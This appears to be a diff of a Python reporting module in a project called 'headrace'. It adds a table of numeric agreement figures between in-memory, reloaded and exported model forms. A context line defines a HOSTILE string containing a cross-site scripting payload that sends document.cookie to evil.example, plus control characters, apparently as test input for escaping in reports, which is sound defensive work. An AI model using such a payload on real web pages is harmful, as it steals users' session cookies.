@@ -1,4 +1,5 @@
-"""The data of two runs that never were: the environment corpus of the demo, and a mixture of named sources."""
+"""The data of two runs that never were, the environment corpus of the demo and a mixture of named sources, and how far
+the forms of a model agree."""
 
 from headrace.reporting.data_facts import (
     Amount,
@@ -15,6 +16,15 @@ from headrace.reporting.data_facts import (
     Split,
     Tokenizer,
 )
+from headrace.reporting.facts import Agreement, Estimate
+
+AGREEMENT = (
+    Agreement("in memory / reloaded checkpoint", 65_536, 0.0, Estimate(0.0), 0.0, True, 1e-6, 0, True),
+    Agreement("reloaded, rounded to bf16, FP32 / exported, FP32", 65_536, 3.1e-7, Estimate(2.9e-8, -3.4e-9, 6.1e-8),
+              2.4e-5, False, 1e-4, 2, True),
+    Agreement("in memory (bf16) / exported, FP32", 65_536, 0.00312, Estimate(-0.00055, -0.0009, -0.0002), 0.0214,
+              False, None, 0, True),
+)  # fmt: skip
 
 HOSTILE = "<script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>\x00\x1b[31m"
 EOS, BEGIN, HOLE, END = (
